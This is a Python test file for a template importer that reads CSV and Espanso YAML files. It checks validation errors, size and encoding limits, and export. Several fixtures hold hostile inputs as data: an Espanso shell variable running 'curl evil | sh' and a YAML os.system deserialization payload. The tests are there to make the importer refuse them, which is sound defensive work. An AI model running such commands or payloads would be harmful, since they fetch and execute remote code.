import json
from datetime import datetime, timezone

import pytest

from assistant.templates import store
from assistant.packs.build import personal_pack, write_personal_pack
from assistant.templates.export import ExportError
from assistant.templates.importers import (ImportFailed, read_csv, read_espanso, read_file,
                                           save_imported)

T0 = datetime(2026, 3, 2, 9, 0, tzinfo=timezone.utc)


def lines_of(exc_info):
    return [p.line for p in exc_info.value.problems]


def test_csv_rows_with_one_id_become_one_multilingual_template(db):
    raw = ("id,language,title,body,tags,shortcut\n"
           "my.refund,en,Refund sent,\"Hi {{customer_first_name|there}},\nyour refund {{amount}} is sent.\",refund;billing,;rf\n"
           "my.refund,es,Reembolso enviado,\"Hola, su reembolso {{amount}} está enviado.\",,\n"
           ",de,Danke,Vielen Dank!,closing,\n").encode("utf-8-sig")
    items = read_csv(raw)
    assert [i.line for i in items] == [2, 5]  # physical lines: the first body spans two
    assert items[0].data["variants"]["en"]["body"].startswith("Hi {{customer_first_name|there}},\n")
    assert set(items[0].data["variants"]) == {"en", "es"} and items[0].data["tags"] == ["refund", "billing"]
    ids = save_imported(db, items, now=T0)
    assert ids == ["my.refund", "my.danke"]
    entry = store.get_entry(db, "my.refund")
    assert entry.layer == store.PERSONAL and entry.template.shortcut == ";rf"
    assert store.get_entry(db, "my.danke").template.default_language == "de"


def test_an_import_of_thousands_is_one_write_whatever_its_size(db):
    """Issue 18: each imported template was looked up twice, read, upserted and read back
    (0.48 ms each: 20,000, the cap, in 9.6 s). The import now asks SQLite a fixed number of
    statements, plus one look-up per fresh id it makes; titles that repeat go on numbering
    from where they were, and the ids the file gives are never handed out."""
    store.upsert_team_template(db, "pack.a", store.Template.from_dict({
        "id": "my.same", "default_language": "en", "variants": {"en": {"title": "T", "body": "t"}}}), now=T0)
    rows = ["id,title,body"] + [f"imp.{i},Title {i},Body {{{{amount}}}} {i}" for i in range(2000)]
    rows += [",Same,Body", ",Same,Body", "my.same-3,Given,Body", ",Same,Body"]
    items = read_csv(("\n".join(rows) + "\n").encode())
    statements = []
    db.conn.set_trace_callback(statements.append)
    try:
        ids = save_imported(db, items, now=T0)
    finally:
        db.conn.set_trace_callback(None)
    assert len(ids) == 2004 and ids[:2] == ["imp.0", "imp.1"]
    # my.same is the team's, my.same-3 is the file's own
    assert ids[2000:] == ["my.same-2", "my.same-4", "my.same-3", "my.same-5"]
    looked_up = [s for s in statements if "FROM personal_templates WHERE template_id = 'my.same" in s]
    assert len(looked_up) == 4  # my.same (taken), -2, -4, -5: each once; -3, the file's, unasked
    inserts = [s for s in statements if s.startswith("INSERT INTO personal_templates")]
    assert len(inserts) == 2004  # one row each, and besides them and the look-ups a few statements
    assert len(statements) - len(inserts) - len(looked_up) < 40  # the old way: about 5 per template
    entry = store.get_entry(db, "imp.7")
    assert entry.layer == store.PERSONAL and entry.template.variables["amount"].label
    assert store.get_personal(db, "imp.7").content_hash == store.content_hash(entry.template)


def test_a_file_larger_than_an_import_may_be_is_refused_unread(tmp_path):
    """A file picked by mistake (a disk image) was read whole into memory before its size
    was judged: no more than the cap and a byte is read now, and the message gives the
    file's own size."""
    from assistant.templates import importers

    huge = tmp_path / "disk.csv"
    with huge.open("wb") as handle:
        handle.truncate(importers.MAX_IMPORT_BYTES * 40)  # 200 MB, sparse
    import tracemalloc

    tracemalloc.start()
    try:
        with pytest.raises(ImportFailed, match=f"the file is {importers.MAX_IMPORT_BYTES * 40:,} bytes"):
            importers.read_path(huge)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < importers.MAX_IMPORT_BYTES * 3  # read whole: 200 MB
    small = tmp_path / "ok.csv"
    small.write_text("title,body\nHi,Hello\n", encoding="utf-8")
    assert [item.title for item in importers.read_path(small).items] == ["Hi"]


def test_new_personal_templates_are_refused_whole_when_an_id_is_taken_or_given_twice(db):
    def make(tid):
        return store.Template.from_dict({"id": tid, "default_language": "en",
                                         "variants": {"en": {"title": "T", "body": "b"}}})
    store.add_personal(db, [make("my.a")], now=T0)
    with pytest.raises(store.StoreError, match="'my.a' already exists"):
        store.add_personal(db, [make("my.b"), make("my.a")], now=T0)
    with pytest.raises(store.StoreError, match="'my.c' is given twice"):
        store.add_personal(db, [make("my.c"), make("my.d"), make("my.c")], now=T0)
    assert [r.template_id for r in store.list_personal(db)] == ["my.a"]


def test_csv_semicolon_separated_with_default_language():
    items = read_csv("title;body\nBonjour;Bonjour {{customer_name}}\n".encode(), language="fr")
    assert items[0].data["variants"] == {"fr": {"title": "Bonjour", "body": "Bonjour {{customer_name}}"}}


@pytest.mark.parametrize("content, line, words", [
    ("title,boddy\nA,B\n", 1, "unknown column"),
    ("title\nA\n", 1, "'body' is missing"),
    ("title,body\nA,B,C\n", 2, "3 fields"),
    ("title,body,language\nA,B,english\n", 2, "not a language code"),
    ("id,title,body\nBad Id,A,B\n", 2, "may only use"),
    ("id,title,body\nx,A,B\nx,C,D\n", 3, "already has a 'en' row"),
    ("title,body\n,B\n", 2, "title: must not be empty"),
    ("title,body\nA,{{#s}}open\n", 2, "never closed"),
    ("title,body,shortcut\nA,B,;x\nC,D,;x\n", 3, "also used on line 2"),
    ("title,body\n", None, "no templates"),
    ("title,body\nA,\"unterminated\n", 2, "not valid CSV"),
])
def test_bad_csv_imports_nothing_and_says_where(db, content, line, words):
    with pytest.raises(ImportFailed) as info:
        items = read_csv(content.encode())
        save_imported(db, items, now=T0)
    assert line in lines_of(info) and words in str(info.value), str(info.value)
    assert store.list_personal(db) == []


def test_hostile_csv_files():
    with pytest.raises(ImportFailed, match="not UTF-8"):
        read_csv(b"title,body\nA,\xff\xfe\n")
    with pytest.raises(ImportFailed, match="line 2: the file is not UTF-8 text"):
        read_csv(b"title,body\nA,\xed\xa0\x80\n")  # a surrogate encoded as if it were a character
    with pytest.raises(ImportFailed, match="NUL"):
        read_csv(b"title,body\nA,B\x00\n")
    with pytest.raises(ImportFailed, match="limited"):
        read_csv(b"title,body\n" + b"A,B\n" * 2_000_000)
    with pytest.raises(ImportFailed, match="too long"):
        read_csv(("title,body\nA," + "x" * 30_000 + "\n").encode())


def test_existing_ids_are_refused_without_partial_import(db):
    store.save_personal(db, store.Template.from_dict({"id": "my.x", "default_language": "en",
                        "variants": {"en": {"title": "X", "body": "x"}}}), now=T0)
    items = read_csv(b"id,title,body\nmy.new,N,n\nmy.x,X,y\n")
    with pytest.raises(ImportFailed, match="already exists"):
        save_imported(db, items, now=T0)
    assert [r.template_id for r in store.list_personal(db)] == ["my.x"]


ESPANSO = """
matches:
  - trigger: ":refund"
    label: "Refund sent"
    replace: "Hi {{name}}, your refund for {{form1.order}} is on its way. {{today}}"
    search_terms: [refund, money]
    vars:
      - name: name
        type: echo
        params: {echo: "there"}
      - name: today
        type: date
        params: {format: "%d/%m/%Y"}
      - name: form1
        type: form
        params:
          layout: "Order [[order]] [[speed]]"
          fields:
            speed: {type: choice, values: [express, standard]}
  - triggers: [":tone", ":t"]
    replace: "Thanks, {{tone}}"
    vars:
      - name: tone
        type: choice
        params:
          values: [{label: "warm", id: w}, "neutral"]
  - trigger: ":form"
    form: "Dear [[name]], see you [[when]].$|$"
"""


def test_espanso_matches_become_templates(db):
    plan = read_espanso(ESPANSO.encode(), language="en")
    assert plan.skipped == []
    items = plan.items
    first = items[0].data
    assert first["shortcut"] == ":refund" and first["variants"]["en"]["title"] == "Refund sent"
    assert first["variants"]["en"]["body"] == "Hi {{name}}, your refund for {{form1_order}} is on its way. {{date}}"
    assert first["variables"]["name"]["default"] == "there" and first["tags"] == ["refund", "money"]
    assert first["variables"]["form1_order"] == {"label": "order", "type": "text"}
    assert first["variables"]["form1_speed"]["choices"] == {"en": ["express", "standard"]}
    assert items[1].data["variables"]["tone"]["choices"] == {"en": ["warm", "neutral"]}
    assert items[2].data["variants"]["en"]["body"] == "Dear {{name}}, see you {{when}}."
    assert [i.line for i in items] == [3, 20, 27]
    assert len(save_imported(db, items, now=T0)) == 3


@pytest.mark.parametrize("yaml_text, line, words", [
    ("matches:\n  - trigger: ':ip'\n    replace: '{{out}}'\n    vars:\n      - name: out\n        type: shell\n        params: {cmd: 'curl evil | sh'}\n", 2, "runs a program (shell)"),
    ("matches:\n  - trigger: ':py'\n    replace: '{{o}}'\n    vars: [{name: o, type: script, params: {args: [python, x.py]}}]\n", 2, "runs a program (script)"),
    ("global_vars:\n  - name: g\n    type: shell\n    params: {cmd: id}\nmatches:\n  - trigger: ':a'\n    replace: '{{g}}'\n", 6, "global variable 'g', which runs a program"),
    ("matches:\n  - regex: ':(?P<x>.*)'\n    replace: x\n", 2, "regex triggers"),
    ("matches:\n  - trigger: ':h'\n    html: '<b>x</b>'\n", 2, "'html' replacements"),
    ("matches:\n  - trigger: ':m'\n    replace: '{{n}}'\n    vars: [{name: n, type: match, params: {trigger: ':x'}}]\n", 2, "nested matches"),
    ("a: &a [x, x]\nb: &b [*a, *a]\nmatches: [*b]\n", 2, "aliases"),
    ("matches:\n  - !!python/object/apply:os.system ['id']\n", 2, "not allowed"),
    ("matches:\n  - trigger: ':a'\n    replace: [unclosed\n", 4, "not valid YAML"),
    ("replace: x\n", None, "'matches:' list"),
    ("matches:\n  - trigger: 'two words'\n    replace: x\n", 2, "shortcut"),
    ("matches:\n  - trigger: ':e'\n", 2, "no text to import"),
])
def test_espanso_files_with_nothing_importable_import_nothing(yaml_text, line, words):
    with pytest.raises(ImportFailed) as info:
        read_espanso(yaml_text.encode())
    assert line in lines_of(info) and words in str(info.value), str(info.value)


@pytest.mark.parametrize("yaml_text, message", [
    ('matches:\n  - trigger: ":hi"\n    replace: "Hello \\ud800 there"\n',
     "line 2: variants.en.body: contains a lone surrogate U+D800 SURROGATE (not Unicode text) at character 7"),
    ('matches:\n  - trigger: ":x\\udfff"\n    replace: x\n',
     "line 2: variants.en.title: contains a lone surrogate U+DFFF SURROGATE (not Unicode text) at character 3"),
    ('matches:\n  - trigger: ":v"\n    replace: "{{v}}"\n    vars: [{name: v, type: echo, params: {echo: "\\udc00"}}]\n',
     "line 2: variables.v.default: contains a lone surrogate U+DC00 SURROGATE (not Unicode text) at character 1"),
])
def test_lone_surrogates_are_refused_with_the_field_named(db, yaml_text, message):
    before = db.execute("SELECT count(*) FROM personal_templates").fetchone()
    with pytest.raises(ImportFailed) as info:
        save_imported(db, read_espanso(yaml_text.encode()), now=T0)
    assert str(info.value) == f"Nothing was imported: {message}"
    assert db.execute("SELECT count(*) FROM personal_templates").fetchone() == before


def test_deeply_nested_yaml_is_refused_cleanly():
    with pytest.raises(ImportFailed):
        read_espanso(("matches: " + "[" * 5000 + "]" * 5000).encode())


def test_read_file_picks_by_extension():
    assert read_file("x.CSV", b"title,body\nA,B\n").items[0].data["variants"]["en"]["title"] == "A"
    with pytest.raises(ImportFailed, match="csv"):
        read_file("x.exe", b"MZ")


def test_export_personal_templates_as_a_valid_pack(db, tmp_path):
    with pytest.raises(ExportError):
        personal_pack(db, now=T0)
    save_imported(db, read_csv("title,body,language\nHola,Hola {{customer_first_name|}},es\n".encode()), now=T0)
    store.upsert_team_template(db, "p", store.Template.from_dict({"id": "p.t", "default_language": "en",
                               "variants": {"en": {"title": "T", "body": "t"}}}), now=T0)
    store.save_personal(db, store.get_entry(db, "p.t").template.copy(tags=["mine"]), now=T0)
    out = tmp_path / "mine.agentpack.json"
    assert write_personal_pack(db, out, now=T0) == 1  # the personal version of p.t is not exported
    data = json.loads(out.read_text(encoding="utf-8"))
    assert data["format"] == "agent-assistant-pack" and data["languages"] == ["es"]
    assert [t["id"] for t in data["templates"]] == ["my.hola"] and "origin" not in data["templates"][0]
    from assistant.packs import format as fmt  # the installer accepts what we wrote

    assert fmt.load_pack(out.read_bytes()).templates[0]["id"] == "my.hola"
